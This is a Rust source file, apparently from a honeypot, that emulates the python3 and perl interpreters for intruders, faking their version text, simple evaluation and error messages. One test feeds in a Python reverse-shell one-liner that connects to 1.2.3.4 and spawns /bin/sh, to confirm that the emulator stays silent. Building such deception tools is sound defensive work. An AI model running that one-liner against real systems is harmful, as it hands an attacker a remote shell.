//! `python3` (3.11.2) and `perl` (5.36.0): versions and help as the real ones print them,
//! and `-c`/`-e` programs (or a script file, or standard input) made of imports, `print`
//! and assignments of simple expressions (see `minieval`). Anything it cannot compute —
//! sockets, `os.system`, `pty.spawn` — ends the program quietly, as if it ran and printed
//! nothing; unknown names and modules raise Python's tracebacks or Perl's errors.
//! An interactive interpreter with no input exits at once.

use std::collections::BTreeMap;

use super::minieval::{Stop, V, eval, perl_str, py_str};
use super::util::read_input;
use super::{CmdCtx, Command};

const PY_HELP: &str = include_str!("adminhelp/python3.help");
const PY_USAGE: &str = "usage: python3 [option] ... [-c cmd | -m mod | file | -] [arg] ...\nTry `python -h' for more information.\n";
const PERL_VERSION: &str = include_str!("adminhelp/perl.version");
const PERL_CONFIG: &str = include_str!("adminhelp/perl.config");
/// At most this many statements run.
const MAX_STMTS: usize = 10_000;

/// Python modules the evaluator knows are installed (Debian's python3.11 stdlib subset).
const PY_MODULES: &[&str] = &[
    "os",
    "sys",
    "socket",
    "subprocess",
    "pty",
    "time",
    "base64",
    "platform",
    "getpass",
    "json",
    "re",
    "random",
    "hashlib",
    "urllib",
    "urllib.request",
    "urllib.parse",
    "http",
    "http.client",
    "http.server",
    "threading",
    "struct",
    "math",
    "shutil",
    "signal",
    "select",
    "ssl",
    "string",
    "binascii",
    "zlib",
    "codecs",
    "ctypes",
    "fcntl",
    "tempfile",
    "pathlib",
    "datetime",
    "io",
    "os.path",
    "itertools",
    "collections",
    "functools",
    "argparse",
    "uuid",
    "crypt",
    "pwd",
    "grp",
    "glob",
    "stat",
    "errno",
    "marshal",
    "pickle",
    "zipfile",
    "tarfile",
    "gzip",
    "csv",
    "logging",
    "ipaddress",
    "multiprocessing",
    "asyncio",
    "webbrowser",
    "sched",
    "resource",
];

/// Perl modules present on a minimal Debian 12 perl.
const PERL_MODULES: &[&str] = &[
    "strict",
    "warnings",
    "Socket",
    "IO::Socket",
    "IO::Socket::INET",
    "IO::Handle",
    "POSIX",
    "MIME::Base64",
    "File::Basename",
    "File::Path",
    "File::Temp",
    "Getopt::Long",
    "Data::Dumper",
    "Sys::Hostname",
    "Time::HiRes",
    "Digest::MD5",
    "Cwd",
    "Carp",
    "Fcntl",
    "utf8",
    "constant",
    "vars",
    "lib",
    "feature",
    "English",
    "IO::File",
    "List::Util",
    "Scalar::Util",
    "IO::Select",
    "Errno",
    "FileHandle",
];

/// Splits `src` where `at_sep(char, depth)` holds outside quotes, `depth` counting open
/// brackets. With `escapes`, a backslash keeps a quote from closing. Stops scanning once
/// more than `cap` pieces are cut; the rest becomes the last piece. Pieces come back raw.
fn split_top(
    src: &str,
    at_sep: impl Fn(char, i32) -> bool,
    escapes: bool,
    cap: usize,
) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let (mut quote, mut depth) = (None::<char>, 0i32);
    let mut prev = ' ';
    for c in src.chars() {
        match quote {
            Some(q) => {
                if c == q && !(escapes && prev == '\\') {
                    quote = None;
                }
                cur.push(c);
            }
            None => match c {
                '\'' | '"' => {
                    quote = Some(c);
                    cur.push(c);
                }
                '(' | '[' | '{' => {
                    depth += 1;
                    cur.push(c);
                }
                ')' | ']' | '}' => {
                    depth -= 1;
                    cur.push(c);
                }
                _ if at_sep(c, depth) => out.push(std::mem::take(&mut cur)),
                _ => cur.push(c),
            },
        }
        prev = if prev == '\\' && c == '\\' { ' ' } else { c };
        if out.len() > cap {
            break;
        }
    }
    out.push(cur);
    out
}

/// Splits a program into statements at top-level `;` and newlines.
fn statements(src: &str) -> Vec<String> {
    split_top(
        src,
        |c, d| matches!(c, ';' | '\n') && d <= 0,
        true,
        MAX_STMTS,
    )
    .into_iter()
    .map(|s| s.trim().to_string())
    .filter(|s| !s.is_empty())
    .collect()
}

/// Splits call arguments at top-level commas.
fn args_of(s: &str) -> Vec<String> {
    let mut out = split_top(s, |c, d| c == ',' && d == 0, false, usize::MAX);
    if out.last().is_some_and(|l| l.trim().is_empty()) {
        out.pop();
    }
    out.into_iter().map(|s| s.trim().to_string()).collect()
}

/// `python3`.
pub struct Python3;

impl Command for Python3 {
    fn name(&self) -> &'static str {
        "python3"
    }

    fn paths(&self) -> &'static [&'static str] {
        &["/usr/bin/python3.11"]
    }

    fn run(&self, ctx: &mut CmdCtx<'_>, args: &[String]) -> i32 {
        let mut it = args.iter().skip(1);
        let mut program: Option<(String, String)> = None;
        while let Some(a) = it.next() {
            match a.as_str() {
                "-V" | "--version" => {
                    ctx.stdout.line("Python 3.11.2");
                    return 0;
                }
                "-VV" => {
                    ctx.stdout
                        .line("Python 3.11.2 (main, Apr 28 2025, 14:11:48) [GCC 12.2.0]");
                    return 0;
                }
                "-h" | "--help" | "-?" => {
                    ctx.stdout.write_str(PY_HELP);
                    return 0;
                }
                "-c" => match it.next() {
                    Some(c) => {
                        program = Some(("<string>".into(), c.clone()));
                        break;
                    }
                    None => {
                        ctx.stderr
                            .write_str(&format!("Argument expected for the -c option\n{PY_USAGE}"));
                        return 2;
                    }
                },
                "-m" => {
                    let m = it.next().cloned().unwrap_or_default();
                    if !PY_MODULES.contains(&m.as_str()) {
                        ctx.stderr
                            .line(&format!("/usr/bin/python3: No module named {m}"));
                        return 1;
                    }
                    return 0;
                }
                "-" => break,
                s if s.starts_with("--") => {
                    ctx.stderr
                        .write_str(&format!("unknown option {s}\n{PY_USAGE}"));
                    return 2;
                }
                s if s.starts_with('-') && s.len() > 1 => {
                    if let Some(c) = s.chars().skip(1).find(|c| !"bBdEhiIOPqsSuvxW".contains(*c)) {
                        ctx.stderr
                            .write_str(&format!("Unknown option: -{c}\n{PY_USAGE}"));
                        return 2;
                    }
                }
                file => {
                    match read_input(ctx, file) {
                        Ok(d) => {
                            program =
                                Some((file.to_string(), String::from_utf8_lossy(&d).into_owned()))
                        }
                        Err(e) => {
                            let abs = miragepot_vfs::path::normalize(ctx.cwd, file);
                            let errno = if e == miragepot_vfs::FsError::PermissionDenied {
                                13
                            } else {
                                2
                            };
                            let me = args.first().map_or("python3", String::as_str);
                            ctx.stderr.line(&format!(
                                "{me}: can't open file '{abs}': [Errno {errno}] {e}"
                            ));
                            return 2;
                        }
                    }
                    break;
                }
            }
        }
        let (file, src) = match program {
            Some(p) => p,
            None => (
                "<stdin>".into(),
                String::from_utf8_lossy(ctx.stdin).into_owned(),
            ),
        };
        run_python(ctx, &file, &src)
    }
}

fn py_names(
    ctx: &CmdCtx<'_>,
    vars: &BTreeMap<String, V>,
) -> impl Fn(&str, bool) -> Result<Option<V>, Stop> + use<> {
    let cwd = ctx.cwd.to_string();
    let user = ctx.user.clone();
    let host = ctx.persona.hostname.clone();
    let kernel = ctx.persona.kernel_release.clone();
    let vars = vars.clone();
    move |name: &str, call: bool| {
        if let Some(v) = vars.get(name).filter(|_| !call) {
            return Ok(Some(v.clone()));
        }
        let s = |x: &str| Ok(Some(V::Str(x.to_string())));
        match (name, call) {
            ("True", false) => Ok(Some(V::Bool(true))),
            ("False", false) => Ok(Some(V::Bool(false))),
            ("None", false) => Ok(Some(V::None)),
            ("os.getcwd", true) => s(&cwd),
            ("os.getuid" | "os.geteuid", true) => Ok(Some(V::Int(i128::from(user.uid)))),
            ("os.getgid" | "os.getegid", true) => Ok(Some(V::Int(i128::from(user.gid)))),
            ("os.getlogin" | "getpass.getuser", true) => s(&user.name),
            ("os.name", false) => s("posix"),
            ("sys.platform", false) => s("linux"),
            ("sys.executable", false) => s("/usr/bin/python3"),
            ("sys.version", false) => s("3.11.2 (main, Apr 28 2025, 14:11:48) [GCC 12.2.0]"),
            ("socket.gethostname" | "platform.node", true) => s(&host),
            ("platform.system", true) => s("Linux"),
            ("platform.release", true) => s(&kernel),
            ("platform.machine", true) => s("x86_64"),
            ("platform.python_version", true) => s("3.11.2"),
            (n, _) if !n.contains('.') && !call => Err(Stop::Error(
                "NameError",
                format!("name '{n}' is not defined"),
            )),
            (n, true)
                if !n.contains('.')
                    && ![
                        "len",
                        "str",
                        "int",
                        "float",
                        "open",
                        "exec",
                        "eval",
                        "input",
                        "range",
                        "list",
                        "dict",
                        "bytes",
                        "chr",
                        "ord",
                        "hex",
                        "abs",
                        "repr",
                        "type",
                        "sum",
                        "max",
                        "min",
                        "sorted",
                        "bool",
                        "format",
                        "__import__",
                        "globals",
                        "locals",
                        "dir",
                        "getattr",
                        "setattr",
                        "vars",
                        "iter",
                        "next",
                        "map",
                        "filter",
                        "zip",
                        "enumerate",
                        "round",
                        "pow",
                        "id",
                        "hash",
                        "isinstance",
                        "compile",
                        "bytearray",
                        "set",
                        "tuple",
                        "object",
                        "super",
                        "property",
                        "callable",
                        "help",
                        "quit",
                        "exit",
                    ]
                    .contains(&n) =>
            {
                Err(Stop::Error(
                    "NameError",
                    format!("name '{n}' is not defined"),
                ))
            }
            _ => Ok(None),
        }
    }
}

fn traceback(ctx: &mut CmdCtx<'_>, file: &str, line: usize, kind: &str, msg: &str) -> i32 {
    ctx.stderr.line("Traceback (most recent call last):");
    ctx.stderr
        .line(&format!("  File \"{file}\", line {line}, in <module>"));
    ctx.stderr.line(&format!("{kind}: {msg}"));
    1
}

fn run_python(ctx: &mut CmdCtx<'_>, file: &str, src: &str) -> i32 {
    let mut vars: BTreeMap<String, V> = BTreeMap::new();
    let mut imported: Vec<String> = Vec::new();
    for (n, stmt) in statements(src).iter().enumerate() {
        let line = n + 1;
        if stmt.starts_with('#') {
            continue;
        }
        if let Some(rest) = stmt.strip_prefix("import ").or_else(|| {
            stmt.strip_prefix("from ")
                .map(|r| r.split(" import").next().unwrap_or(""))
        }) {
            for m in rest.split(',') {
                let m = m.split_whitespace().next().unwrap_or("");
                if !PY_MODULES.contains(&m)
                    && !PY_MODULES.contains(&m.split('.').next().unwrap_or(""))
                {
                    let top = m.split('.').next().unwrap_or(m);
                    return traceback(
                        ctx,
                        file,
                        line,
                        "ModuleNotFoundError",
                        &format!("No module named '{top}'"),
                    );
                }
                imported.push(m.split('.').next().unwrap_or(m).to_string());
            }
            continue;
        }
        let names = py_names(ctx, &vars);
        let check_module = |e: &str| {
            let head = e.trim_start_matches(|c: char| c == '(' || c.is_whitespace());
            let module: String = head
                .chars()
                .take_while(|c| c.is_alphanumeric() || *c == '_')
                .collect();
            head.get(module.len()..).is_some_and(|r| r.starts_with('.'))
                && !imported.contains(&module)
                && PY_MODULES.contains(&module.as_str())
        };
        let result = if let Some(inner) = stmt
            .strip_prefix("print(")
            .and_then(|r| r.strip_suffix(')'))
        {
            let mut parts = Vec::new();
            let (mut sep, mut end) = (" ".to_string(), "\n".to_string());
            let mut err = None;
            for a in args_of(inner) {
                if check_module(&a) {
                    let m: String = a
                        .chars()
                        .take_while(|c| c.is_alphanumeric() || *c == '_')
                        .collect();
                    err = Some(Stop::Error(
                        "NameError",
                        format!("name '{m}' is not defined"),
                    ));
                    break;
                }
                let (target, expr) = match a.split_once('=') {
                    Some((k, v))
                        if (k.trim() == "sep" || k.trim() == "end") && !v.starts_with('=') =>
                    {
                        (Some(k.trim().to_string()), v.to_string())
                    }
                    _ => (None, a.clone()),
                };
                match eval(&expr, false, &names) {
                    Ok(v) => match target.as_deref() {
                        Some("sep") => sep = py_str(&v),
                        Some("end") => end = py_str(&v),
                        _ => parts.push(py_str(&v)),
                    },
                    Err(e) => {
                        err = Some(e);
                        break;
                    }
                }
            }
            match err {
                None => {
                    ctx.stdout.write_str(&parts.join(&sep));
                    ctx.stdout.write_str(&end);
                    Ok(V::None)
                }
                Some(e) => Err(e),
            }
        } else if let Some((name, expr)) = stmt.split_once('=').filter(|(n, e)| {
            !e.starts_with('=')
                && n.trim().chars().all(|c| c.is_alphanumeric() || c == '_')
                && !n.trim().is_empty()
        }) {
            eval(expr, false, &names).map(|v| {
                vars.insert(name.trim().to_string(), v);
                V::None
            })
        } else if check_module(stmt) {
            let m: String = stmt
                .chars()
                .take_while(|c| c.is_alphanumeric() || *c == '_')
                .collect();
            Err(Stop::Error(
                "NameError",
                format!("name '{m}' is not defined"),
            ))
        } else {
            eval(stmt, false, &names)
        };
        match result {
            Ok(_) => {}
            Err(Stop::Opaque) => return 0,
            Err(Stop::Error(kind, msg)) => return traceback(ctx, file, line, kind, &msg),
            Err(Stop::Syntax) => {
                let first_word_ok = stmt.split_whitespace().next().is_some_and(|w| {
                    [
                        "for",
                        "while",
                        "if",
                        "def",
                        "class",
                        "with",
                        "try",
                        "except",
                        "else",
                        "elif",
                        "return",
                        "pass",
                        "exec",
                        "os.system",
                        "s",
                        "while",
                        "lambda",
                        "global",
                        "del",
                        "raise",
                        "assert",
                        "async",
                        "await",
                        "finally",
                        "break",
                        "continue",
                    ]
                    .contains(&w.trim_end_matches(':'))
                });
                if first_word_ok || stmt.contains('[') || stmt.contains('{') || stmt.contains(':') {
                    return 0;
                }
                ctx.stderr.line(&format!("  File \"{file}\", line {line}"));
                ctx.stderr.line(&format!("    {stmt}"));
                ctx.stderr.line("    ^");
                ctx.stderr.line("SyntaxError: invalid syntax");
                return 1;
            }
        }
    }
    0
}

/// `perl`.
pub struct Perl;

impl Command for Perl {
    fn name(&self) -> &'static str {
        "perl"
    }

    fn paths(&self) -> &'static [&'static str] {
        &["/usr/bin/perl"]
    }

    fn run(&self, ctx: &mut CmdCtx<'_>, args: &[String]) -> i32 {
        let mut it = args.iter().skip(1);
        let mut code: Option<(String, String)> = None;
        while let Some(a) = it.next() {
            match a.as_str() {
                "-v" | "--version" => {
                    ctx.stdout.write_str(PERL_VERSION);
                    return 0;
                }
                "-V" => {
                    ctx.stdout.write_str(PERL_CONFIG);
                    return 0;
                }
                "-h" | "--help" => {
                    ctx.stdout.write_str(include_str!("adminhelp/perl.help"));
                    return 0;
                }
                "-e" | "-E" => match it.next() {
                    Some(c) => {
                        let prev = code.take().map(|(_, s)| s + "\n").unwrap_or_default();
                        code = Some(("-e".into(), prev + c));
                    }
                    None => {
                        ctx.stderr.line("No code specified for -e.");
                        return 25;
                    }
                },
                "--" => break,
                s if s.starts_with('-') && s.len() > 1 => {
                    let c = s.chars().nth(1).unwrap_or('-');
                    if !"wsTtWXlnpaicCdDFIMmxU0".contains(c) {
                        ctx.stderr.line(&format!(
                            "Unrecognized switch: {s}  (-h will show valid options)."
                        ));
                        return 25;
                    }
                }
                file if code.is_none() => {
                    match read_input(ctx, file) {
                        Ok(d) => {
                            code =
                                Some((file.to_string(), String::from_utf8_lossy(&d).into_owned()))
                        }
                        Err(e) => {
                            ctx.stderr
                                .line(&format!("Can't open perl script \"{file}\": {e}"));
                            return 2;
                        }
                    }
                    break;
                }
                _ => break,
            }
        }
        let (file, src) =
            code.unwrap_or_else(|| ("-".into(), String::from_utf8_lossy(ctx.stdin).into_owned()));
        run_perl(ctx, &file, &src)
    }
}

fn run_perl(ctx: &mut CmdCtx<'_>, file: &str, src: &str) -> i32 {
    for q in ['"', '\''] {
        let mut inside = false;
        let mut prev = ' ';
        for c in src.chars() {
            if c == q && prev != '\\' {
                inside = !inside;
            }
            prev = if prev == '\\' && c == '\\' { ' ' } else { c };
        }
        if inside && src.chars().filter(|c| *c == '"' || *c == '\'').count() % 2 == 1 {
            ctx.stderr.line(&format!(
                "Can't find string terminator '{q}' anywhere before EOF at {file} line 1."
            ));
            return 255;
        }
    }
    let names = |name: &str, call: bool| -> Result<Option<V>, Stop> {
        let _ = call;
        Ok(match name {
            "$0" => Some(V::Str(file.to_string())),
            _ => None,
        })
    };
    for (n, stmt) in statements(src).iter().enumerate() {
        if stmt.starts_with('#') {
            continue;
        }
        if let Some(m) = stmt
            .strip_prefix("use ")
            .or_else(|| stmt.strip_prefix("require "))
        {
            let m = m
                .split_whitespace()
                .next()
                .unwrap_or("")
                .trim_end_matches(';');
            if m.chars()
                .next()
                .is_some_and(|c| c.is_ascii_digit() || c == 'v')
                || PERL_MODULES.contains(&m)
            {
                continue;
            }
            let pm = format!("{}.pm", m.replace("::", "/"));
            ctx.stderr.line(&format!("Can't locate {pm} in @INC (you may need to install the {m} module) (@INC contains: /etc/perl /usr/local/lib/x86_64-linux-gnu/perl/5.36.0 /usr/local/share/perl/5.36.0 /usr/lib/x86_64-linux-gnu/perl5/5.36 /usr/share/perl5 /usr/lib/x86_64-linux-gnu/perl-base /usr/lib/x86_64-linux-gnu/perl/5.36 /usr/share/perl/5.36 /usr/local/lib/site_perl) at {file} line {}.", n + 1));
            ctx.stderr.line(&format!(
                "BEGIN failed--compilation aborted at {file} line {}.",
                n + 1
            ));
            return 2;
        }
        let body = stmt
            .strip_prefix("print")
            .map(|r| (r, false))
            .or_else(|| stmt.strip_prefix("say").map(|r| (r, true)));
        let Some((body, nl)) = body.filter(|(r, _)| r.is_empty() || r.starts_with([' ', '(']))
        else {
            // Anything else (sockets, system, loops) runs quietly.
            return 0;
        };
        let body = body.trim();
        let body = body
            .strip_prefix('(')
            .and_then(|b| b.strip_suffix(')'))
            .unwrap_or(body);
        let mut out = String::new();
        for a in args_of(body) {
            match eval(&a, true, &names) {
                Ok(v) => out.push_str(&perl_str(&v)),
                Err(Stop::Syntax) => {
                    ctx.stderr.line(&format!(
                        "syntax error at {file} line {}, near \"{}\"",
                        n + 1,
                        a.chars().take(20).collect::<String>()
                    ));
                    ctx.stderr.line(&format!(
                        "Execution of {file} aborted due to compilation errors."
                    ));
                    return 255;
                }
                Err(_) => {
                    ctx.stdout.write_str(&out);
                    return 0;
                }
            }
        }
        if nl {
            out.push('\n');
        }
        ctx.stdout.write_str(&out);
    }
    0
}

#[cfg(test)]
mod tests {
    use crate::commands::testutil::run;

    #[test]
    fn python_prints_simple_things() {
        assert_eq!(run("python3", &["-c", "print(1)"], "/", b"").stdout, "1\n");
        assert_eq!(
            run(
                "python3",
                &["-c", "import os; print(os.getcwd())"],
                "/tmp",
                b""
            )
            .stdout,
            "/tmp\n"
        );
        assert_eq!(
            run("python3", &["-c", "x = 6*7; print('answer:', x)"], "/", b"").stdout,
            "answer: 42\n"
        );
        assert_eq!(
            run("python3", &["--version"], "/", b"").stdout,
            "Python 3.11.2\n"
        );
        let r = run("python3", &["-c", "foo"], "/", b"");
        assert_eq!(
            r.stderr,
            "Traceback (most recent call last):\n  File \"<string>\", line 1, in <module>\nNameError: name 'foo' is not defined\n"
        );
        let r = run("python3", &["-c", "import nosuchmod"], "/", b"");
        assert!(
            r.stderr
                .ends_with("ModuleNotFoundError: No module named 'nosuchmod'\n")
        );
        let r = run("python3", &["-c", "print(os.getcwd())"], "/", b"");
        assert!(r.stderr.ends_with("NameError: name 'os' is not defined\n"));
        let r = run(
            "python3",
            &[
                "-c",
                "import socket,pty;s=socket.socket();s.connect(('1.2.3.4',1));pty.spawn('/bin/sh')",
            ],
            "/",
            b"",
        );
        assert_eq!((r.stdout.as_str(), r.stderr.as_str(), r.code), ("", "", 0));
        let r = run("python3", &[], "/", b"");
        assert_eq!((r.stdout.as_str(), r.code), ("", 0));
        let r = run("python3", &["/nope.py"], "/", b"");
        assert_eq!(
            (r.stderr.as_str(), r.code),
            (
                "python3: can't open file '/nope.py': [Errno 2] No such file or directory\n",
                2
            )
        );
    }

    #[test]
    fn perl_prints_simple_things() {
        assert_eq!(
            run("perl", &["-e", "print \"hello\\n\""], "/", b"").stdout,
            "hello\n"
        );
        assert_eq!(
            run("perl", &["-e", "print 1+2, \"\\n\";"], "/", b"").stdout,
            "3\n"
        );
        assert!(
            run("perl", &["-v"], "/", b"")
                .stdout
                .starts_with("\nThis is perl 5, version 36, subversion 0 (v5.36.0)")
        );
        let r = run("perl", &["-e", "print \"a"], "/", b"");
        assert_eq!(
            (r.stderr.as_str(), r.code),
            (
                "Can't find string terminator '\"' anywhere before EOF at -e line 1.\n",
                255
            )
        );
        let r = run("perl", &["-e", "use Foo::Bar;"], "/", b"");
        assert!(r.stderr.starts_with("Can't locate Foo/Bar.pm in @INC"));
        let r = run("perl", &["-MIO -e", "x"], "/", b"");
        assert!(r.code >= 0);
    }
}
